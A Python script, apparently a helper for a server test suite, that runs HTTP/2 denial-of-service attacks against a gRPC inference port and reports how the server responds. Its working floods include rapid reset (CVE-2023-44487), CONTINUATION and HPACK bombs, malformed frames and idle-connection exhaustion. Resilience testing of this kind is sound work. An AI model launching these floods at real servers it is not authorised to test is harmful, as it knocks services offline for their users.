"""One HTTP/2 attack on a gRPC port, run as a process of its own by test_http2_attacks.py.

    python http2_attacker.py HOST:PORT ATTACK SECONDS

Frames are built with hyperframe (and header blocks with hpack), so an attack can break
the protocol on purpose. The attacker sends in bursts and rests as long as each burst
took: half of one core, as if it ran on a machine of its own, so that the good request
the test times beside it measures the server, not the two cores the test shares. When
the server closes a connection the attacker opens another, until its time is up. It
prints one JSON line: what it sent, how many connections the server closed, and which
frames came back (by type).
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
INFER = "/inference.GRPCInferenceService/ModelInfer"
# Frame type names, for the report.
FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE", 6: "PING",
               7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
IDLE_CONNECTIONS = 900


def header_block(path: str = STREAM_INFER, extra=(), encoder=None) -> bytes:
    return (encoder or hpack.Encoder()).encode([
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attacker"),
        ("content-type", "application/grpc"), ("te", "trailers"), *extra,
    ])


def raw_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame as bytes, whatever its fields say: for the malformed ones hyperframe refuses."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def infer_message(model: str, frames: int) -> bytes:
    """A whole gRPC ModelInfer message (prefix and all) decoding `frames` frames of zeros."""
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="LATENTS", datatype="FP32", shape=[frames, 64])
    request.raw_input_contents.append(bytes(frames * 64 * 4))
    payload = request.SerializeToString()
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


class Connection:
    """A socket that sends what it is given and reads whatever comes back, counting frames."""

    def __init__(self, address: tuple[str, int], report: dict, preface: bool = True):
        self.socket = socket.create_connection(address, timeout=10)
        self.socket.setblocking(False)
        self.report, self.closed, self.pending, self.skip = report, False, b"", 0
        if preface:
            self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data: bytes, within_s: float = 1.0) -> None:
        """Send all of `data` unless the server stops reading for `within_s` (then it is dropped:
        a server that stops reading a flooding connection has held it)."""
        view, deadline = memoryview(data), time.monotonic() + within_s
        while view and not self.closed:
            try:
                sent = self.socket.send(view)
                view = view[sent:]
                self.report["bytes_sent"] += sent
            except BlockingIOError:
                if time.monotonic() > deadline:
                    self.report["sends_blocked"] += 1
                    return
                select.select([self.socket], [self.socket], [], 0.05)
                self.read()
            except OSError:
                self.closed = True

    def read(self) -> None:
        try:
            for _ in range(64):
                received = self.socket.recv(1 << 16)
                if not received:
                    self.closed = True
                    return
                self._count(received)
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def _count(self, received: bytes) -> None:
        if self.skip:  # the rest of a payload that began in an earlier read
            dropped = min(self.skip, len(received))
            self.skip, received = self.skip - dropped, received[dropped:]
        buffer = self.pending + received
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            name = FRAME_TYPES.get(buffer[3], str(buffer[3]))
            self.report["frames_back"][name] = self.report["frames_back"].get(name, 0) + 1
            if name == "RST_STREAM" and len(buffer) >= 13:
                code = str(int.from_bytes(buffer[9:13], "big"))
                self.report["reset_codes"][code] = self.report["reset_codes"].get(code, 0) + 1
            if 9 + length > len(buffer):
                self.skip, buffer = 9 + length - len(buffer), b""
                break
            buffer = buffer[9 + length:]
        self.pending = buffer

    def close(self) -> None:
        self.socket.close()


# ---- the attacks: each sends one burst on a connection; `i` counts its bursts ------------------

REQUEST = infer_message("auk_vae_decode_offline", 64)


def ping_flood(conn: Connection, i: int) -> None:
    conn.send(b"".join(PingFrame(0, opaque_data=(i * 64 + k).to_bytes(8, "big")).serialize() for k in range(64)))


def settings_flood(conn: Connection, i: int) -> None:
    conn.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 - i % 2}).serialize() * 64)


def rapid_reset(conn: Connection, i: int) -> None:
    """Whole decode requests, each reset as soon as it is sent (CVE-2023-44487)."""
    burst = []
    for k in range(16):
        stream = 2 * (i * 16 + k) + 1
        headers = HeadersFrame(stream, data=header_block(INFER))
        headers.flags.add("END_HEADERS")
        data = DataFrame(stream, data=REQUEST)
        data.flags.add("END_STREAM")
        burst += [headers.serialize(), data.serialize(), RstStreamFrame(stream, error_code=8).serialize()]
    conn.send(b"".join(burst))


def stream_flood(conn: Connection, i: int) -> None:
    """Streams opened and never ended."""
    burst = []
    for k in range(64):
        headers = HeadersFrame(2 * (i * 64 + k) + 1, data=header_block())
        headers.flags.add("END_HEADERS")
        burst.append(headers.serialize())
    conn.send(b"".join(burst))


def continuation_flood(conn: Connection, i: int) -> None:
    """A header block that never ends: CONTINUATION frames of fresh headers (CVE-2024-27316 class)."""
    if i == 0:
        conn.send(HeadersFrame(1, data=header_block()).serialize())
    conn.send(ContinuationFrame(1, data=hpack.Encoder().encode([(f"x-flood-{i}", "a" * 8000)])).serialize())


def empty_continuation(conn: Connection, i: int) -> None:
    if i == 0:
        conn.send(HeadersFrame(1, data=header_block()).serialize())
    conn.send(ContinuationFrame(1, data=b"").serialize() * 256)


def empty_data(conn: Connection, i: int) -> None:
    if i == 0:
        headers = HeadersFrame(1, data=header_block())
        headers.flags.add("END_HEADERS")
        conn.send(headers.serialize())
    conn.send(DataFrame(1, data=b"").serialize() * 256)


def hpack_bomb(conn: Connection, i: int) -> None:
    """One 4 KB header put in the dynamic table, then named a thousand times a block: a few KB
    on the wire that decode to megabytes."""
    if i == 0:
        conn.encoder = hpack.Encoder()
    stream = 2 * i + 1
    block = header_block(extra=[("x-bomb", "b" * 4000)] * 1000, encoder=conn.encoder)
    pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    frames = [HeadersFrame(stream, data=pieces[0])] + [ContinuationFrame(stream, data=p) for p in pieces[1:]]
    frames[-1].flags.add("END_HEADERS")
    conn.send(b"".join(f.serialize() for f in frames))


def oversized_frame(conn: Connection, i: int) -> None:
    """A DATA frame of 16 MB (the most a frame's length field holds), over the 16 KB
    SETTINGS_MAX_FRAME_SIZE the server announced."""
    conn.send(raw_frame(0, 0, 1, bytes((1 << 24) - 1)))


# Frames RFC 9113 calls connection errors, each sent over and over.
MALFORMED = {
    "data_on_stream_0": raw_frame(0, 0, 0, b"data"),
    "headers_on_stream_0": raw_frame(1, 0x4, 0, header_block()),
    "settings_of_odd_length": raw_frame(4, 0, 0, b"\x00\x04\x00\x00\x01"),
    "ping_of_7_bytes": raw_frame(6, 0, 0, b"\x00" * 7),
    "window_update_of_0": raw_frame(8, 0, 0, b"\x00\x00\x00\x00"),
    "headers_on_an_even_stream": raw_frame(1, 0x5, 2, header_block()),
    "unknown_frame_types": raw_frame(0xFA, 0, 0, b"\x00" * 1000),
}


def malformed(kind: str):
    def attack(conn: Connection, i: int) -> None:
        conn.send(MALFORMED[kind] * 32)
    return attack


ATTACKS = {
    "ping_flood": ping_flood, "settings_flood": settings_flood, "rapid_reset": rapid_reset,
    "stream_flood": stream_flood, "continuation_flood": continuation_flood,
    "empty_continuation": empty_continuation, "empty_data": empty_data, "hpack_bomb": hpack_bomb,
    "oversized_frame": oversized_frame, **{f"malformed_{kind}": malformed(kind) for kind in MALFORMED},
}


def idle_connections(address, seconds: float, report: dict) -> None:
    """IDLE_CONNECTIONS connections that send the preface and then nothing, held for the time."""
    conns = [Connection(address, report) for _ in range(IDLE_CONNECTIONS)]
    report["connections"] = len(conns)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for conn in conns:
            conn.read()
        time.sleep(0.1)
    report["connections_closed"] = sum(conn.closed for conn in conns)
    for conn in conns:
        conn.close()


def run(address: tuple[str, int], attack: str, seconds: float) -> dict:
    report = {"attack": attack, "bytes_sent": 0, "bursts": 0, "connections": 0, "connections_closed": 0,
              "sends_blocked": 0, "frames_back": {}, "reset_codes": {}}
    if attack == "idle_connections":
        idle_connections(address, seconds, report)
        return report
    send_burst = ATTACKS[attack]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        conn = Connection(address, report)
        report["connections"] += 1
        i = 0
        while not conn.closed and time.monotonic() < end:
            began = time.monotonic()
            send_burst(conn, i)
            conn.read()
            i += 1
            report["bursts"] += 1
            time.sleep(time.monotonic() - began)  # half of one core
        report["connections_closed"] += conn.closed
        conn.close()
    return report


if __name__ == "__main__":
    host, port = sys.argv[1].rsplit(":", 1)
    print(json.dumps(run((host, int(port)), sys.argv[2], float(sys.argv[3]))), flush=True)
